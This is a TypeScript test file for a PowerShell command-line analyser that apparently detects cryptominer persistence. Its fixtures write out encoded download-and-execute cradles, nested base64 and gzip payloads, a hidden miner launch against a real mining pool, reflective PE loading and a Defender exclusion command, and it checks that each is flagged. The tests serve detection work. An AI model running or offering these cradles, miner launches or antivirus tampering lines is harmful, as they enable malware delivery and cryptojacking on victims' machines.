// PowerShell launch lines as scheduled tasks and Run keys carry them: -EncodedCommand in all its
// spellings, FromBase64String payloads nested inside, gzip-wrapped payloads, the download cradles
// miners use, and the clean lines administrators write, which must stay silent.
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { judgeSignals, argvSignals } from '../../detect/detectors/miner-command-line.js';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import {
  analyzePowerShell,
  decodedScripts,
  powershellParam,
  scriptWords,
  splitWindowsArgs,
} from './powershell.js';

const enc = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const b64utf8 = (script: string) => Buffer.from(script, 'utf8').toString('base64');

const CRADLE = [
  "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x.ps1')",
  'Start-Process -WindowStyle Hidden "$env:TEMP\\svchost.exe" -ArgumentList \'-o stratum+tcp://pool.supportxmr.com:3333 -u worker1 -p x --donate-level 1 -a rx/0\'',
].join('\n');

describe('analyzePowerShell: a task running powershell -nop -w hidden -enc <cradle>', () => {
  const line = `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc ${enc(CRADLE)}`;
  const result = analyzePowerShell(line);

  it('reads the launch flags as facts', () => {
    expect(result.invocations).toHaveLength(1);
    const inv = result.invocations[0]!;
    expect(inv).toMatchObject({
      program: 'powershell.exe',
      hiddenWindow: true,
      noProfile: true,
      encodedLayer: 1,
    });
    expect(inv.flags.map((f) => f.name)).toEqual(['NoProfile', 'WindowStyle', 'EncodedCommand']);
    expect(line.slice(inv.flags[1]!.start, inv.flags[1]!.end)).toBe('-w hidden');
  });

  it('decodes the UTF-16LE payload and shows it as the decoded script', () => {
    const [decoded] = decodedScripts(result);
    expect(decoded).toMatchObject({
      via: 'encoded-command',
      parent: 0,
      depth: 1,
      encoding: 'utf-16le',
      text: CRADLE,
    });
    expect(line.slice(decoded!.span!.start, decoded!.span!.end)).toMatch(/^-enc [A-Za-z0-9+/=]+$/);
  });

  it('finds the cradle in the decoded layer with its span and URL', () => {
    const cradle = result.techniques.find((t) => t.id === 'cradle-download-iex');
    expect(cradle).toMatchObject({ layer: 1, url: 'http://127.0.0.1/x.ps1', attack: ['T1059.001', 'T1105'] });
    expect(CRADLE.slice(cradle!.span.start, cradle!.span.end)).toBe(
      "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x.ps1')",
    );
    expect(result.techniques.map((t) => t.id)).toContain('encoded-command');
    expect(result.urls.map((u) => u.url)).toEqual([
      'http://127.0.0.1/x.ps1',
      'stratum+tcp://pool.supportxmr.com:3333',
    ]);
  });

  it('hands the decoded words to the same command-line rules a process argv meets', async () => {
    const ruleset = await loadRuleset([defaultIocDir()]);
    const signals = argvSignals(['decoded', ...scriptWords(decodedScripts(result)[0]!.text)], ruleset);
    expect(signals.map((s) => s.key)).toEqual(
      expect.arrayContaining(['url:stratum+tcp://pool.supportxmr.com:3333', 'arg:option:--donate-level']),
    );
    expect(judgeSignals(signals)?.level).toBe('high');
  });
});

describe('analyzePowerShell: -EncodedCommand spellings', () => {
  const payload = enc('Write-Output hi');
  it.each([
    '-e',
    '-ec',
    '-en',
    '-enc',
    '-ENCOD',
    '-EncodedCommand',
    '/enc',
    '/EncodedCommand',
    '\u2013enc',
    '\u2014e',
  ])('%s is EncodedCommand', (flag) => {
    const result = analyzePowerShell(`powershell.exe -NoP -NonI ${flag} ${payload}`);
    expect(decodedScripts(result).map((l) => l.text)).toEqual(['Write-Output hi']);
    expect(result.invocations[0]!.nonInteractive).toBe(true);
  });

  it('tells -ex/-ep (ExecutionPolicy) and -encodeda (EncodedArguments) from -e', () => {
    expect(powershellParam('-ex')?.name).toBe('ExecutionPolicy');
    expect(powershellParam('-ep')?.name).toBe('ExecutionPolicy');
    expect(powershellParam('-encodeda')?.name).toBe('EncodedArguments');
    expect(powershellParam('-no')).toBeUndefined();
    const result = analyzePowerShell(`pwsh -ep Bypass -w 1 -ec ${payload}`);
    expect(result.invocations[0]).toMatchObject({ policyBypass: 'Bypass', hiddenWindow: true });
  });

  it('reads a quoted program path and powershell inside cmd /c "…"', () => {
    const quoted = analyzePowerShell(
      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w hidden -enc ${payload}`,
    );
    expect(quoted.invocations[0]!.hiddenWindow).toBe(true);
    expect(decodedScripts(quoted)).toHaveLength(1);
    const viaCmd = analyzePowerShell(`cmd.exe /c "powershell -nop -enc ${payload}"`);
    expect(decodedScripts(viaCmd).map((l) => l.text)).toEqual(['Write-Output hi']);
  });

  it('finds -enc written inside a decoded script (Start-Process powershell -ArgumentList)', () => {
    const inner = `Start-Process powershell -ArgumentList '-nop','-enc','${enc("IEX (iwr 'http://127.0.0.1/y.ps1')")}'`;
    const result = analyzePowerShell(`powershell -enc ${enc(inner)}`);
    expect(result.layers.map((l) => l.via)).toEqual(['input', 'encoded-command', 'encoded-command']);
    expect(result.techniques.find((t) => t.id === 'cradle-download-iex')).toMatchObject({ layer: 2 });
  });
});

describe('analyzePowerShell: FromBase64String payloads, nested', () => {
  it('decodes [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(…)) inside -enc', () => {
    const stage2 = 'iwr http://127.0.0.1/m.exe -OutFile $env:TEMP\\m.exe; Start-Process $env:TEMP\\m.exe';
    const stage1 = `IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64utf8(stage2)}')))`;
    const result = analyzePowerShell(`powershell -w hidden -enc ${enc(stage1)}`);
    expect(result.layers.map((l) => [l.via, l.depth, l.encoding])).toEqual([
      ['input', 0, undefined],
      ['encoded-command', 1, 'utf-16le'],
      ['from-base64', 2, 'utf-8'],
    ]);
    expect(result.layers[2]!.text).toBe(stage2);
    const ids = result.techniques.map((t) => `${t.layer}:${t.id}`);
    expect(ids).toEqual(
      expect.arrayContaining([
        '0:encoded-command',
        '1:from-base64',
        '1:invoke-expression',
        '2:cradle-download-run',
      ]),
    );
    const run = result.techniques.find((t) => t.id === 'cradle-download-run')!;
    expect(run).toMatchObject({ url: 'http://127.0.0.1/m.exe', path: '$env:TEMP\\m.exe' });
    expect(stage2.slice(run.span.start, run.span.end)).toBe(stage2);
  });

  it('decodes Unicode GetString, a variable holding the literal, and a gzip stream', () => {
    const unicode = analyzePowerShell(
      `$s = '${enc('Write-Host one')}'; IEX ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($s)))`,
    );
    expect(decodedScripts(unicode).map((l) => [l.encoding, l.text])).toEqual([
      ['utf-16le', 'Write-Host one'],
    ]);
    const gz = gzipSync(Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/z')"));
    const zipped = analyzePowerShell(
      `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${gz.toString('base64')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
    );
    expect(decodedScripts(zipped)[0]).toMatchObject({ compression: 'gzip' });
    expect(zipped.techniques.find((t) => t.id === 'cradle-download-iex')).toMatchObject({
      layer: 1,
      url: 'http://127.0.0.1/z',
    });
  });

  it('records a binary payload (a PE image) instead of a text layer', () => {
    const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]);
    const result = analyzePowerShell(
      `[Reflection.Assembly]::Load([Convert]::FromBase64String('${pe.toString('base64')}'))`,
    );
    expect(result.payloads).toEqual([expect.objectContaining({ magic: 'pe', bytes: 202 })]);
    expect(result.techniques.map((t) => t.id)).toEqual(
      expect.arrayContaining(['from-base64', 'reflective-load']),
    );
  });

  it('stops at the depth limit with a note', () => {
    let script = 'Write-Output bottom';
    for (let i = 0; i < 6; i++) script = `powershell -enc ${enc(script)}`;
    const result = analyzePowerShell(script, { maxDepth: 3 });
    expect(Math.max(...result.layers.map((l) => l.depth))).toBe(3);
    expect(result.notes.join('\n')).toMatch(/deeper than 3 layers/);
  });
});

describe('analyzePowerShell: cradles', () => {
  const ids = (text: string) => analyzePowerShell(text).techniques.map((t) => t.id);
  it.each([
    ['powershell -c "iwr http://127.0.0.1/a.ps1 -UseBasicParsing | iex"', 'cradle-download-iex'],
    ['powershell -c "(irm \'http://127.0.0.1/a\') | Invoke-Expression"', 'cradle-download-iex'],
    ["powershell IEX(New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')", 'cradle-download-iex'],
    [
      "(New-Object Net.WebClient).DownloadFile('http://127.0.0.1/b.exe', 'C:\\Users\\Public\\b.exe'); Start-Process C:\\Users\\Public\\b.exe",
      'cradle-download-run',
    ],
    [
      'Invoke-WebRequest -Uri http://127.0.0.1/c.exe -OutFile C:\\ProgramData\\c.exe\n& C:\\ProgramData\\c.exe -o x',
      'cradle-download-run',
    ],
    [
      'Start-BitsTransfer -Source http://127.0.0.1/d.exe -Destination $env:TEMP\\d.exe; saps $env:TEMP\\d.exe',
      'cradle-bits-transfer',
    ],
    [
      'Start-BitsTransfer -Source http://127.0.0.1/d.exe -Destination $env:TEMP\\d.exe; saps $env:TEMP\\d.exe',
      'cradle-download-run',
    ],
    ['Add-MpPreference -ExclusionPath C:\\Windows\\Fonts', 'defender-tamper'],
  ])('%s → %s', (text, id) => {
    expect(ids(text)).toContain(id);
  });

  it('stays silent on ordinary administration lines', () => {
    for (const line of [
      'powershell -File C:\\Scripts\\backup.ps1',
      'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files\\Vendor\\maintenance.ps1"',
      'powershell -Command "Get-ChildItem C:\\Logs | Remove-Item"',
      'Invoke-WebRequest https://example.com/report.csv -OutFile C:\\Reports\\report.csv',
    ]) {
      const result = analyzePowerShell(line);
      expect(
        result.techniques.filter((t) => t.id !== 'download-file'),
        line,
      ).toEqual([]);
      expect(decodedScripts(result)).toEqual([]);
    }
    expect(analyzePowerShell('powershell -File C:\\Scripts\\backup.ps1').invocations[0]).toMatchObject({
      file: 'C:\\Scripts\\backup.ps1',
      hiddenWindow: false,
      noProfile: false,
    });
  });
});

describe('analyzePowerShell: hostile input', () => {
  it('never throws and stays quick', () => {
    const inputs = [
      'A'.repeat(2_000_000),
      'powershell '.repeat(20_000),
      `powershell -enc ${'!'.repeat(5000)}`,
      `powershell -enc ${'A'.repeat(100_000)}`,
      `[Convert]::FromBase64String('${'QUFB'.repeat(50_000)}`,
      `[Convert]::FromBase64String($x)`,
      `iex ${'"'.repeat(10_000)}`,
      `${'iwr -OutFile a; '.repeat(5_000)}`,
      `[Convert]::FromBase64String('${gzipSync(Buffer.alloc(20_000_000)).toString('base64')}')`,
      "[Convert]::FromBase64String('QUFBQQ==');".repeat(20_000),
      "$x='QUFBQUFBQUFBQUFB'; [Convert]::FromBase64String($x);".repeat(20_000),
      'powershell -e QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\n'.repeat(20_000),
      'iex;'.repeat(200_000),
    ];
    for (const input of inputs) {
      const t0 = performance.now();
      const result = analyzePowerShell(input);
      expect(performance.now() - t0, input.slice(0, 40)).toBeLessThan(3_000);
      // Bounded output too: layers, techniques per layer and notes are capped.
      expect(result.layers.length).toBeLessThanOrEqual(32);
      expect(result.techniques.length).toBeLessThanOrEqual(32 * 400);
      expect(result.notes.length).toBeLessThanOrEqual(51);
    }
  });
});

describe('splitWindowsArgs', () => {
  it('follows CommandLineToArgvW', () => {
    const words = (s: string) => splitWindowsArgs(s).map((t) => t.value);
    expect(words('a "b c" d')).toEqual(['a', 'b c', 'd']);
    expect(words('"C:\\Program Files\\x.exe" -a')).toEqual(['C:\\Program Files\\x.exe', '-a']);
    expect(words('a\\\\"b c"')).toEqual(['a\\b c']);
    expect(words('a\\"b')).toEqual(['a"b']);
    expect(words('"a""b"')).toEqual(['a"b']);
    expect(words('  ')).toEqual([]);
    expect(splitWindowsArgs('ab  "c d"')[1]).toEqual({ value: 'c d', start: 4, end: 9 });
  });
});
